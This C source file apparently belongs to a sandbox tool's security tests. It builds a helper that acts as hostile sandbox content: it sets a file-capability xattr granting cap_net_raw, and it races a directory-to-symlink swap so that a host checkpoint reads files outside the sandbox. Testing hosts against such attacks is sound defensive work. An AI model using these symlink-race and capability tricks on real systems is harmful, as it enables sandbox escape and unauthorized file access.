/* untrusted: what a sandbox leaves in its writable layer to attack the
 * host that checkpoints it.  tests/security/untrusted-output.bats runs it
 * in containers and microVMs.
 *
 * Built static so it runs in the busybox image:
 *   gcc -static -O2 -o untrusted tests/security/untrusted.c
 *
 *   untrusted setcap FILE          gives FILE the file capability
 *                                  cap_net_raw+ep (a security.capability
 *                                  xattr, as setcap(8) writes it)
 *   untrusted swap DIR TARGET SECS for SECS seconds, replaces the directory
 *                                  DIR by a symlink to TARGET and back, as
 *                                  fast as it can (a checkpoint that
 *                                  follows the symlink would read TARGET)
 *
 * Exit status 0 when done, 1 when the attack could not be made. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static int do_setcap(const char *file)
{
  /* struct vfs_cap_data, revision 2, effective: CAP_NET_RAW (13) */
  uint32_t v[5] = { 0x02000000u | 1u, 1u << 13, 0, 0, 0 };
  if (setxattr(file, "security.capability", v, sizeof v, 0) < 0) {
    fprintf(stderr, "setcap %s: %s\n", file, strerror(errno));
    return 1;
  }
  return 0;
}

static int do_swap(const char *dir, const char *target, int secs)
{
  char aside[4096];
  time_t end = time(NULL) + secs;
  long n = 0;

  snprintf(aside, sizeof aside, "%s.aside", dir);
  while (time(NULL) < end) {
    if (rename(dir, aside) < 0 || symlink(target, dir) < 0) {
      fprintf(stderr, "swap: %s\n", strerror(errno));
      return 1;
    }
    unlink(dir);
    if (rename(aside, dir) < 0) {
      fprintf(stderr, "swap back: %s\n", strerror(errno));
      return 1;
    }
    n++;
  }
  fprintf(stderr, "swapped %ld times\n", n);
  return 0;
}

int main(int argc, char **argv)
{
  if (argc == 3 && strcmp(argv[1], "setcap") == 0)
    return do_setcap(argv[2]);
  if (argc == 5 && strcmp(argv[1], "swap") == 0)
    return do_swap(argv[2], argv[3], atoi(argv[4]));
  fprintf(stderr, "usage: untrusted setcap FILE | swap DIR TARGET SECS\n");
  return 2;
}
